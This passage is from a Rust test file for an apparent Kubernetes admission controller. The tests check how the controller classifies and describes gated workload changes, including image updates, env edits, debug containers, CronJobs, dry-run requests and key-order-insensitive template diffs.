            U(UngatedReason::Subresource),
        ),
    ]);
}

#[test]
fn a_pods_application_comes_from_its_labels_and_its_debug_image_is_recorded() {
    let req = mk_request(|r| {
        as_pod(r);
        r["subResource"] = json!("ephemeralcontainers");
        r["object"]["spec"]["ephemeralContainers"] =
            json!([{"name": "debugger", "image": "busybox:1.36"}]);
    });
    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "debug");
    assert_eq!(change.application, "checkout-api");
    assert_eq!(change.name, "checkout-api-7d4f8b9c-abc12");
    assert_eq!(change.class.action(), "debug");
    assert_eq!(
        change.diff.images,
        vec![ImageChange {
            container: "debugger".into(),
            init: false,
            ephemeral: true,
            previous_image: None,
            current_image: Some("busybox:1.36".into()),
        }]
    );
    assert_eq!(
        change.diff.described(),
        vec!["debug container debugger added (busybox:1.36)".to_owned()]
    );
}

#[test]
fn replicasets_and_cronjobs_are_gated_like_workloads() {
    check(vec![
        (
            "kubectl set image rs/…",
            edit(|r| {
                no_restart(r);
                set_kind(r, "apps", "v1", "ReplicaSet", "replicasets");
                set_image(r, "object", "containers", "app", "evil:1");
            }),
            G(ReplicaSet, ChangeKind::Image),
        ),
        (
            "the deployment controller scaling a ReplicaSet and bumping its revision",
            edit(|r| {
                no_restart(r);
                set_kind(r, "apps", "v1", "ReplicaSet", "replicasets");
                r["userInfo"] =
                    json!({"username": "system:serviceaccount:kube-system:deployment-controller"});
                r["object"]["spec"]["replicas"] = json!(0);
                r["object"]["metadata"]["annotations"]["deployment.kubernetes.io/revision"] =
                    json!("15");
            }),
            U(UngatedReason::NoGatedChange),
        ),
        (
            "a CronJob's image: its next run uses it",
            edit(|r| {
                no_restart(r);
                as_cronjob(r);
                r["object"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] =
                    json!("evil:1");
            }),
            G(CronJob, ChangeKind::Image),
        ),
        (
            "a CronJob's env",
            edit(|r| {
                no_restart(r);
                as_cronjob(r);
                r["object"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["env"] =
                    json!([]);
            }),
            G(CronJob, ChangeKind::Template),
        ),
        (
            "a CronJob suspended",
            edit(|r| {
                no_restart(r);
                as_cronjob(r);
                r["object"]["spec"]["suspend"] = json!(true);
            }),
            U(UngatedReason::NoGatedChange),
        ),
    ]);
}

// === what the denial names ===

#[test]
fn other_template_changes_are_named_for_people() {
    let rows: [(&str, Edit, &[&str]); 6] = [
        (
            "env",
            edit(|r| set_env(r, "LOG_LEVEL", "debug")),
            &["env of container app"],
        ),
        (
            "annotation",
            edit(|r| set_annotation(r, "object", "team", Some("x"))),
            &["annotation team"],
        ),
        (
            "service account",
            edit(|r| template(r, "object")["spec"]["serviceAccountName"] = json!("admin")),
            &["serviceAccountName of the pod"],
        ),
        (
            "template label",
            edit(|r| template(r, "object")["metadata"]["labels"]["track"] = json!("canary")),
            &["label track"],
        ),
        (
            "init container command",
            edit(|r| {
                set_image(r, "oldObject", "initContainers", "migrate", "m:1");
                set_image(r, "object", "initContainers", "migrate", "m:1");
                template(r, "object")["spec"]["initContainers"][0]["command"] = json!(["sh"]);
            }),
            &["command of init container migrate"],
        ),
        (
            "two things at once",
            edit(|r| {
                set_env(r, "A", "1");
                template(r, "object")["spec"]["hostNetwork"] = json!(true);
            }),
            &["env of container app", "hostNetwork of the pod"],
        ),
    ];
    for (row, edit, expected) in rows {
        let req = mk_request(|r| {
            no_restart(r);
            edit(r)
        });
        let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), row);
        assert_eq!(change.class, ChangeKind::Template, "row {row:?}");
        assert_eq!(change.diff.other, expected, "row {row:?}");
    }
}

#[test]
fn rollgates_own_redeploy_stays_a_restart() {
    let req = mk_request(|r| {
        r["userInfo"] = json!({"username": "system:serviceaccount:rollgate:rollgate"});
        set_annotation(r, "object", GRANT_ANNOTATION, Some("0f9c2d7e-jti"));
        set_annotation(r, "object", OPERATION_ANNOTATION, Some("op-1"));
    });
    let change = gated_change(classify(&req, &mk_policy(), &no_labelled()), "redeploy");
    assert_eq!(change.class, ChangeKind::Restart);
    assert!(change.diff.other.is_empty(), "{:?}", change.diff.other);
}

#[test]
fn dry_run_requests_are_classified_like_real_ones() {
    check(vec![
        (
            "dryRun restart",
            edit(|r| r["dryRun"] = json!(true)),
            G(Deployment, ChangeKind::Restart),
        ),
        (
            "dryRun image change",
            edit(|r| {
                r["dryRun"] = json!(true);
                no_restart(r);
                set_image(r, "object", "containers", "app", "checkout-api:v3.42.0");
            }),
            G(Deployment, ChangeKind::Image),
        ),
        (
            "dryRun replica change",
            edit(|r| {
                r["dryRun"] = json!(true);
                no_restart(r);
                r["object"]["spec"]["replicas"] = json!(12);
            }),
            U(UngatedReason::NoGatedChange),
        ),
    ]);
    let req = mk_request(|r| r["dryRun"] = json!(true));
    assert!(
        req.dry_run,
        "the edited fixture must really be a dryRun request"
    );
}

// === the diff on raw templates ===

#[test]
fn a_template_written_in_another_key_order_or_spacing_is_not_a_change() {
    let raw = |text: &str| serde_json::value::RawValue::from_string(text.to_owned()).unwrap();
    let old = raw(
        r#"{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[{"name":"app","image":"web:1"}]}}"#,
    );
    let reordered = raw(
        r#"{ "spec": {"containers": [{"image": "web:1", "name": "app"}]}, "metadata": {"labels": {"app": "web"}} }"#,
    );
    let diff = change::diff(Some(&old), Some(&reordered), &[]).unwrap();
    assert_eq!(diff, TemplateDiff::default());

    let env_added = raw(
        r#"{"metadata":{"labels":{"app":"web"}},"spec":{"containers":[{"name":"app","image":"web:1","env":[{"name":"A","value":"1"}]}]}}"#,
    );
    let diff = change::diff(Some(&old), Some(&env_added), &[]).unwrap();
    assert_eq!(
        diff.other,
        vec!["env of container app".to_owned()],
        "{diff:?}"
    );
    assert_eq!(diff.class(true), Some(ChangeKind::Template));
    assert_eq!(diff.class(false), None);
}
